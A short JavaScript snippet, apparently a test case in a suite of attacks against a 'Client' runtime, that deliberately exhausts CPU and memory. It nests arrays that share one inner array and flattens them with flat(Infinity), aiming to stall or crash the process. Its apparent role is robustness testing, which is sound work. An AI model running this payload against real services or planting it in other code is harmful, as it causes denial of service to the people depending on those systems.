// Tries: to flatten arrays that share their parts into one that no heap can hold.
// Attack: call
// Ends: cpu | memory | stuck | crash

Client.prototype.attack = () => {
  let nested = new Array(1000).fill(1);
  for (let i = 0; i < 10; i++) nested = new Array(1000).fill(nested);
  return nested.flat(Number.POSITIVE_INFINITY).length;
};
